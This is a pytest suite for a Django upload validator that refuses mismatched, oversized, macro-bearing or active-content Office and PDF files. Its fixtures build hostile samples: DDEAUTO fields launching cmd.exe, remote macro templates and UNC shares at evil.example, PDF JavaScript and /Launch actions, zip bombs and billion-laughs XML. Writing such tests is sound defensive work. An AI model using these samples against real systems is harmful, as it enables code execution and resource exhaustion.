"""Materials are judged by their content, not their name; size is limited by settings.MAX_UPLOAD_BYTES.
Office files are also refused when they are zip bombs or hold macros, PDFs when they hold scripts."""

import gzip
import hashlib
import io
import struct
import warnings
import zipfile

import docx
import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from hrparks.applications.tests.factories import PDF_BYTES
from hrparks.core import uploads
from hrparks.core.uploads import (
    OLE2_SIGNATURE,
    RATIO_CHECKED_ABOVE_BYTES,
    check_upload,
    sha256_of,
)

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def ooxml(main_part: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr(main_part, "<document/>")
    return buffer.getvalue()


def word_document() -> bytes:
    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("长春人力资源服务产业园申报请示")
    document.save(buffer)
    return buffer.getvalue()


def workbook() -> bytes:
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["企业名称", "统一社会信用代码"])
    book.save(buffer)
    return buffer.getvalue()


def repack(package: bytes, parts: dict[str, bytes | str]) -> bytes:
    """`package` with `parts` added, or replacing the parts of the same name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in parts:
                target.writestr(info.filename, source.read(info))
        for name, data in parts.items():
            target.writestr(name, data)
    return buffer.getvalue()


SECTOR, FREE, END, FAT_SECTOR, NO_ENTRY = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
STORAGE, STREAM = 1, 2


def compound_file(*entries: tuple) -> bytes:
    """A Compound File (legacy .doc/.xls, [MS-CFB] version 3) that olefile opens: its directory holds
    `entries` (name, 1 storage / 2 stream[, the stream's bytes]), all in the root storage. Streams are
    padded to 4096 bytes, so that they lie in sectors of their own (no mini stream); they come first, as
    Office writes them (so the first stream's first bytes, right after the header, tell Word from Excel),
    then one FAT sector and one directory sector."""
    chains, streams, directory = [], b"", []
    for name, kind, *content in entries:
        data = content[0].ljust(4096, b"\0") if kind == STREAM else b""
        first = len(chains) if data else END
        sectors = len(data) // SECTOR
        chains += [len(chains) + n + 1 for n in range(sectors - 1)] + [END] * bool(sectors)
        streams += data
        directory.append((name, kind, first, len(data)))
    fat_sector, directory_sector = len(chains), len(chains) + 1
    fat = [*chains, FAT_SECTOR, END]
    assert len(fat) <= SECTOR // 4 and len(directory) <= 3

    def entry(name, kind, first, size, right=NO_ENTRY, child=NO_ENTRY):
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBB3I", len(encoded), kind, 1, NO_ENTRY, right, child)
            + bytes(36)
            + struct.pack("<IQ", first, size)
        )

    table = entry("Root Entry", 5, END, 0, child=1 if directory else NO_ENTRY)
    for number, (name, kind, first, size) in enumerate(directory, 2):
        table += entry(name, kind, first, size, right=number if number <= len(directory) else NO_ENTRY)
    header = OLE2_SIGNATURE + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<9I", 0, 1, directory_sector, 0, 4096, END, 0, END, 0)
    header += struct.pack("<I", fat_sector) + struct.pack("<I", FREE) * 108
    fat += [FREE] * (SECTOR // 4 - len(fat))
    return header + streams + struct.pack(f"<{len(fat)}I", *fat) + table.ljust(SECTOR, b"\0")


def biff_record(kind: int, payload: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(payload)) + payload


def legacy_workbook(*sheets: tuple[str, int], links: tuple[tuple[int, str], ...] = ()) -> bytes:
    """The Workbook stream of a legacy .xls ([MS-XLS]): BOF, a BOUNDSHEET record per sheet (name, type:
    0 worksheet, 1 Excel 4.0 macro sheet), a SUPBOOK record per link (sheets it names, 0 for a DDE source;
    its path), EOF."""
    records = biff_record(0x0809, struct.pack("<4H2I", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    for name, kind in sheets:
        records += biff_record(0x0085, struct.pack("<I2B2B", 0, 0, kind, len(name), 0) + name.encode("latin-1"))
    for sheet_count, path in links:
        records += biff_record(0x01AE, struct.pack("<2HB", sheet_count, len(path), 0) + path.encode("latin-1"))
    return records + biff_record(0x000A)


WORD_MAGIC = b"\xec\xa5\xc1\x00"  # the first bytes of a WordDocument stream ([MS-DOC] 2.5.2, FibBase.wIdent)
LEGACY_WORD = compound_file(("WordDocument", STREAM, WORD_MAGIC), ("1Table", STREAM, b"\x00"))
LEGACY_EXCEL = compound_file(("Workbook", STREAM, legacy_workbook(("Sheet1", 0))))
LEGACY_WORD_WITH_MACROS = compound_file(
    ("WordDocument", STREAM, WORD_MAGIC), ("Macros", STORAGE), ("_VBA_PROJECT", STREAM, b"\x00")
)
LEGACY_EXCEL_WITH_MACROS = compound_file(
    ("Workbook", STREAM, legacy_workbook(("Sheet1", 0))), ("_VBA_PROJECT_CUR", STORAGE), ("VBA", STORAGE)
)
# A document whose text (UTF-16LE, as Word keeps it) starts a sector with "VBA": text, not a directory entry.
LEGACY_WORD_MENTIONING_VBA = compound_file(
    ("WordDocument", STREAM, WORD_MAGIC.ljust(SECTOR, b"\0") + ("VBA宏的使用说明。" * 20).encode("utf-16-le")),
    ("1Table", STREAM, b"\x00"),
)


def zeros(size: int) -> bytes:
    """A zip part of `size` zero bytes, which deflate packs about 1000:1."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/image1.png", bytes(size))
    return buffer.getvalue()


def upload(name, content):
    return SimpleUploadedFile(name, content)


def refusal(name, content) -> str:
    with pytest.raises(ValidationError) as refused:
        check_upload(upload(name, content))
    return refused.value.code


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("申报请示.pdf", PDF_BYTES, "pdf"),
        ("报告.DOCX", ooxml("word/document.xml"), "docx"),
        ("名录.xlsx", ooxml("xl/workbook.xml"), "xlsx"),
        ("旧版.xls", LEGACY_EXCEL, "xls"),
        ("照片.png", PNG, "png"),
        ("照片.jpeg", JPEG, "jpg"),
        ("照片.jpg", JPEG, "jpg"),
        # Real documents (python-docx, openpyxl); Word embeds a chart's workbook and keeps .emz pictures.
        ("申报请示.docx", word_document(), "docx"),
        ("入驻企业名录.xlsx", workbook(), "xlsx"),
        (
            "含图表.docx",
            repack(word_document(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook()}),
            "docx",
        ),
        ("含示意图.docx", repack(word_document(), {"word/media/image1.emz": gzip.compress(b" EMF" * 100)}), "docx"),
        ("旧版.doc", LEGACY_WORD, "doc"),
        ("旧版.doc", LEGACY_WORD_MENTIONING_VBA, "doc"),
    ],
)
def test_accepted_formats(name, content, expected):
    assert check_upload(upload(name, content)) == expected


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("病毒.pdf", b"MZ\x90\x00" + b"\x00" * 100),  # a Windows program named .pdf
        ("报告.docx", ooxml("xl/workbook.xml")),  # a workbook named .docx
        ("压缩包.docx", ooxml("readme.txt")),  # a zip that is no Office document
        ("照片.png", JPEG),
        ("旧版.doc", PDF_BYTES),
    ],
)
def test_content_that_does_not_match_the_name_is_refused(name, content):
    with pytest.raises(ValidationError, match="不是有效"):
        check_upload(upload(name, content))


@pytest.mark.parametrize("name", ["说明.txt", "脚本.html", "压缩包.zip", "无扩展名"])
def test_other_types_are_refused_whatever_their_content(name):
    with pytest.raises(ValidationError, match="不接受"):
        check_upload(upload(name, PDF_BYTES))


def test_size_limit_from_settings(settings):
    settings.MAX_UPLOAD_BYTES = len(PDF_BYTES) - 1
    with pytest.raises(ValidationError, match="不得超过"):
        check_upload(upload("大文件.pdf", PDF_BYTES))
    settings.MAX_UPLOAD_BYTES = len(PDF_BYTES)
    assert check_upload(upload("刚好.pdf", PDF_BYTES)) == "pdf"


def test_empty_file_is_refused():
    with pytest.raises(ValidationError):
        check_upload(upload("空.pdf", b""))


def duplicate_part() -> bytes:
    buffer = io.BytesIO(word_document())
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate this test is about
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def overlapping_parts() -> bytes:
    """A document with a part whose data is another part, header and all, both listed in the directory:
    parts sharing data are how the largest zip bombs are built; each part on its own reads fine."""
    single = io.BytesIO()
    with zipfile.ZipFile(single, "w") as archive:
        archive.writestr("word/media/shared.xml", "<shared/>")
    single = single.getvalue()
    directory = single.index(b"PK\x01\x02")
    quoted_header, quoted_entry = single[:directory], bytearray(single[directory : single.index(b"PK\x05\x06")])
    buffer = io.BytesIO(word_document())
    with zipfile.ZipFile(buffer, "a") as archive:  # stored, so the quoted part lies as it is in the data
        archive.writestr("word/media/quoting.bin", quoted_header)
        quoting = archive.getinfo("word/media/quoting.bin")
    data = bytearray(buffer.getvalue())
    struct.pack_into("<I", quoted_entry, 42, quoting.header_offset + 30 + len(quoting.filename))
    end_record = data.rindex(b"PK\x05\x06")
    data[end_record:end_record] = quoted_entry  # the directory ends where its end record starts
    end_record += len(quoted_entry)
    entries, _, size = struct.unpack_from("<HHI", data, end_record + 8)
    struct.pack_into("<HHI", data, end_record + 8, entries + 1, entries + 1, size + len(quoted_entry))
    return bytes(data)


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04" + b"\x00" * 100,
        word_document()[:20_000],  # cut off in transfer
        duplicate_part(),
        overlapping_parts(),
    ],
)
def test_a_damaged_office_file_is_refused_as_damaged(content):
    assert refusal("报告.docx", content) == "damaged"


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """A document with a 200 MB part of zeros, written in streamed blocks so the test stays small: about 1 MB."""
    buffer = io.BytesIO(word_document())
    block = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("word/media/image1.png", "w") as part,
    ):
        for _ in range(200):
            part.write(block)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_without_being_unpacked(zip_bomb):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("炸弹.docx", zip_bomb))
    assert refused.value.code == "uncompressed_size"
    assert "100.0" in refused.value.messages[0]  # the limit the user is told: 100 MB


def unpacked_size(package: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return sum(info.file_size for info in archive.infolist())


def test_unpacked_size_limit_from_settings(settings):
    document = word_document()
    settings.UPLOAD_MAX_UNCOMPRESSED_BYTES = unpacked_size(document)
    assert check_upload(upload("刚好.docx", document)) == "docx"
    settings.UPLOAD_MAX_UNCOMPRESSED_BYTES = unpacked_size(document) - 1
    assert refusal("超出.docx", document) == "uncompressed_size"


def test_what_the_check_unpacks_counts_against_the_same_limit(settings):
    # Each embedded workbook unpacks to less than the limit, and the document itself too, but checking four
    # of them would unpack well over twice the limit: a zip bomb made of embedded files.
    settings.UPLOAD_MAX_UNCOMPRESSED_BYTES = 50_000
    embedded = repack(workbook(), {"xl/embeddings/oleObject1.bin": LEGACY_WORD.ljust(30_000, b"\0")})
    package = ooxml("word/document.xml")
    assert check_upload(upload("一个.docx", repack(package, {"word/embeddings/1.xlsx": embedded}))) == "docx"
    many = repack(package, {f"word/embeddings/{n}.xlsx": embedded for n in range(4)})
    assert unpacked_size(many) < 50_000
    assert refusal("多个.docx", many) == "uncompressed_size"


def test_part_count_limit_from_settings(settings):
    document = word_document()
    settings.UPLOAD_MAX_ARCHIVE_MEMBERS = len(zipfile.ZipFile(io.BytesIO(document)).infolist())
    assert check_upload(upload("刚好.docx", document)) == "docx"
    settings.UPLOAD_MAX_ARCHIVE_MEMBERS -= 1
    assert refusal("超出.docx", document) == "too_many_parts"


def test_compression_ratio_is_judged_only_on_parts_above_one_megabyte():
    # A megabyte of zeros packs about 1000:1; small parts that pack well are ordinary (blank sheets).
    at_threshold = repack(word_document(), {"word/media/image1.png": bytes(RATIO_CHECKED_ABOVE_BYTES)})
    assert check_upload(upload("刚好.docx", at_threshold)) == "docx"
    above = repack(word_document(), {"word/media/image1.png": bytes(RATIO_CHECKED_ABOVE_BYTES + 1)})
    assert refusal("异常.docx", above) == "compression_ratio"


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/media/附件.zip", zeros(10)),
        ("word/media/image2.png", zeros(10)),  # judged by its bytes, not its name
        ("word/media/image3.png", b"\x1f\x8b\x08\x00" + bytes(20)),  # gzip
        # An Office file embedded outside `embeddings/` is no chart's workbook.
        ("word/media/book.xlsx", workbook()),
    ],
)
def test_archives_inside_a_document_are_refused(part, content):
    assert refusal("报告.docx", repack(word_document(), {part: content})) == "nested_archive"


def embedded_twice() -> bytes:
    inner = repack(word_document(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook()})
    return repack(word_document(), {"word/embeddings/Microsoft_Word_Document.docx": inner})


def test_embedded_office_files_are_checked_one_level_deep():
    assert refusal("报告.docx", embedded_twice()) == "nested_archive"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("报告.docx", repack(word_document(), {"word/vbaProject.bin": LEGACY_WORD_WITH_MACROS})),
        # A .docm renamed .docx: its content types say what it is.
        (
            "报告.docx",
            repack(
                word_document(),
                {
                    "[Content_Types].xml": zipfile.ZipFile(io.BytesIO(word_document()))
                    .read("[Content_Types].xml")
                    .replace(WORD_MAIN.encode(), WORD_MACRO_MAIN.encode())
                },
            ),
        ),
        ("名录.xlsx", repack(workbook(), {"xl/macrosheets/sheet2.xml": "<xm:macrosheet/>"})),  # Excel 4.0 macros
        ("报告.docx", repack(word_document(), {"word/embeddings/oleObject1.bin": LEGACY_EXCEL_WITH_MACROS})),
        (
            "报告.docx",
            repack(word_document(), {"word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": workbook()}),
        ),
        (
            "报告.docx",
            repack(
                word_document(),
                {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": repack(workbook(), {"xl/vbaProject.bin": b"x"})},
            ),
        ),
        ("旧版.doc", LEGACY_WORD_WITH_MACROS),
        ("旧版.xls", LEGACY_EXCEL_WITH_MACROS),
    ],
)
def test_files_with_macros_are_refused(name, content):
    assert refusal(name, content) == "macros"


def test_activex_controls_are_refused():
    content = repack(word_document(), {"word/activeX/activeX1.xml": "<ax:ocx/>"})
    assert refusal("报告.docx", content) == "activex"


@pytest.mark.parametrize("name", ["报告.docm", "名录.XLSM", "演示.pptm"])
def test_macro_enabled_files_are_refused_by_name(name):
    assert refusal(name, word_document()) == "macro_enabled"


def pdf(action=None, javascript=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:
        writer.add_open_action(JavaScript(javascript))
    if action:
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject(action), NameObject("/F"): TextStringObject("cmd.exe")}
        )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_pdfs_with_scripts_or_launch_actions_are_refused():
    assert check_upload(upload("申报请示.pdf", pdf())) == "pdf"
    assert check_upload(upload("申报请示.pdf", pdf(action="/URI"))) == "pdf"
    assert refusal("申报请示.pdf", pdf(javascript="app.alert('x');")) == "pdf_active_content"
    assert refusal("申报请示.pdf", pdf(action="/Launch")) == "pdf_active_content"
    # Names may be written with #-escapes ("/J#61vaScript" is "/JavaScript"); pypdf reads them as viewers do.
    escaped = pdf(javascript="app.alert('x');").replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
    assert refusal("申报请示.pdf", escaped) == "pdf_active_content"


def test_sha256_of_reads_the_whole_file_and_rewinds_it():
    file = upload("申报请示.pdf", PDF_BYTES)
    assert sha256_of(file) == hashlib.sha256(PDF_BYTES).hexdigest()
    assert file.read() == PDF_BYTES


# --- fail closed (issue 13, item 4) ---------------------------------------------------------------------


def padded_pdf(objects: int) -> bytes:
    """A one-page PDF that opens with a script, behind `objects` other objects: they come before it in the
    file, and in the catalogue a walk from the trailer reads first. A walk that stops after a number of
    objects never reaches the script."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    padding = ArrayObject(writer._add_object(DictionaryObject()) for _ in range(objects))
    writer.add_open_action(JavaScript("app.alert('x');"))
    writer.root_object[NameObject("/Padding")] = padding
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_a_script_behind_more_objects_than_the_old_limit_is_found():
    assert refusal("申报请示.pdf", padded_pdf(6_000)) == "pdf_active_content"


def test_a_pdf_past_the_budget_is_refused_as_too_complex_not_let_through(settings):
    content = padded_pdf(200)
    settings.UPLOAD_PDF_MAX_OBJECTS = 100
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("申报请示.pdf", content))
    assert refused.value.code == "pdf_too_complex"
    assert "100" in refused.value.messages[0]
    settings.UPLOAD_PDF_MAX_OBJECTS = 1_000
    assert refusal("申报请示.pdf", content) == "pdf_active_content"
    settings.UPLOAD_PDF_MAX_SECONDS = 0
    assert refusal("申报请示.pdf", content) == "pdf_too_complex"


def test_a_pdf_pypdf_cannot_read_is_refused_when_it_names_a_script():
    broken = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> \n%%EOF"
    assert refusal("申报请示.pdf", broken) == "pdf_damaged"
    # Without a name that may hide an action, the scan of its bytes has checked the whole file.
    assert check_upload(upload("申报请示.pdf", PDF_BYTES)) == "pdf"


def encrypted_pdf(user_password: str, javascript: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:
        writer.add_open_action(JavaScript(javascript))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_an_encrypted_pdf_is_checked_when_it_opens_without_a_password_and_refused_otherwise():
    assert check_upload(upload("申报请示.pdf", encrypted_pdf(""))) == "pdf"
    assert refusal("申报请示.pdf", encrypted_pdf("", javascript="app.alert('x');")) == "pdf_active_content"
    with pytest.raises(ValidationError, match="加密"):
        check_upload(upload("申报请示.pdf", encrypted_pdf("secret")))


RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
RELATIONSHIP_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_relationship(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELATIONSHIPS}">'
        f'<Relationship Id="rId1" Type="{RELATIONSHIP_TYPES}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    return repack(word_document(), {part: rels})


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/macros.dotm"),  # Word fetches a remote macro template
        ("image", "http://evil.example/track.png"),  # a linked picture, fetched on opening
        ("oleObject", "file://evil.example/share/object.bin"),
        ("hyperlink", "file://evil.example/share/payload.exe"),  # a link to run a program, not a web page
        ("hyperlink", "\\\\evil.example\\share"),
    ],
)
def test_external_relationships_are_refused(kind, target):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("报告.docx", with_relationship(kind, target)))
    assert refused.value.code == "external_relationship"
    assert kind in refused.value.messages[0]


def test_a_hyperlink_to_a_web_or_mail_address_is_kept():
    for target in ("https://rst.jl.gov.cn/", "http://example.com/a?b=c", "mailto:rsc@example.com"):
        document = with_relationship("hyperlink", target, part="word/_rels/document.xml.rels")
        assert check_upload(upload("报告.docx", document)) == "docx"


def test_an_external_relationship_in_an_embedded_workbook_is_refused():
    workbook_rels = (
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId9" TargetMode="External" '
        f'Type="{RELATIONSHIP_TYPES}/externalLinkPath" Target="http://evil.example/book.xlsx"/></Relationships>'
    )
    embedded = repack(workbook(), {"xl/externalLinks/_rels/externalLink1.xml.rels": workbook_rels})
    content = repack(word_document(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": embedded})
    assert refusal("报告.docx", content) == "external_relationship"


def test_relationships_with_entity_declarations_are_refused_unparsed():
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="&b;" Type="x" Target="y"/></Relationships>'
    )
    assert refusal("报告.docx", repack(word_document(), {"word/_rels/document.xml.rels": laughs})) == "damaged"


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def with_body(body: str) -> bytes:
    return repack(word_document(), {"word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>"})


DDE_SIMPLE = with_body(
    "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" '/></w:p>"
)
DDE_COMPLEX = with_body(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
    '<w:r><w:instrText>E cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


@pytest.mark.parametrize("content", [DDE_SIMPLE, DDE_COMPLEX])
def test_dde_fields_in_a_word_document_are_refused(content):
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("报告.docx", content))
    assert refused.value.code == "dde"
    assert "cmd" in refused.value.messages[0]


def test_other_fields_are_kept():
    page_number = with_body('<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/></w:p>')
    assert check_upload(upload("报告.docx", page_number)) == "docx"


def test_a_dde_link_in_a_workbook_is_refused():
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    assert refusal("名录.xlsx", repack(workbook(), {"xl/externalLinks/externalLink1.xml": link})) == "dde"


def test_excel_4_macro_sheets_of_a_legacy_workbook_are_refused():
    with_macro_sheet = compound_file(("Workbook", STREAM, legacy_workbook(("Sheet1", 0), ("Macro1", 1))))
    assert refusal("旧版.xls", with_macro_sheet) == "macros"


@pytest.mark.parametrize(
    ("link", "reason"),
    [((0, "cmd\x03/c calc.exe"), "dde"), ((1, "\\\\evil.example\\share\\book.xls"), "external_relationship")],
)
def test_dde_and_external_links_of_a_legacy_workbook_are_refused(link, reason):
    assert (
        refusal("旧版.xls", compound_file(("Workbook", STREAM, legacy_workbook(("Sheet1", 0), links=(link,)))))
        == reason
    )


def test_dde_fields_of_a_legacy_document_are_refused():
    field = '\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \x14\x15'.encode("latin-1")
    document = compound_file(("WordDocument", STREAM, WORD_MAGIC + bytes(60) + field), ("1Table", STREAM, b"\x00"))
    assert refusal("旧版.doc", document) == "dde"


def test_an_encrypted_legacy_document_is_refused():
    flags = struct.pack("<H", 0x0100)  # FibBase.fEncrypted ([MS-DOC] 2.5.2), after wIdent, nFib, unused, lid, pnNext
    document = compound_file(("WordDocument", STREAM, WORD_MAGIC + bytes(6) + flags), ("1Table", STREAM, b"\x00"))
    assert refusal("旧版.doc", document) == "encrypted"


def test_a_compound_file_olefile_cannot_open_is_refused():
    assert refusal("旧版.doc", LEGACY_WORD[:1536]) == "damaged"


def test_any_binary_file_with_a_name_can_be_checked(tmp_path):
    path = tmp_path / "名录.xlsx"
    path.write_bytes(workbook())
    with path.open("rb") as file:
        assert check_upload(file) == "xlsx"


def test_fields_in_parts_too_large_to_parse_are_refused_not_let_through(monkeypatch):
    page_number = with_body('<w:p><w:fldSimple w:instr=" PAGE "/></w:p>')
    monkeypatch.setattr(uploads, "FIELD_PARTS_MAX_BYTES", 100)
    assert refusal("报告.docx", page_number) == "fields_too_large"
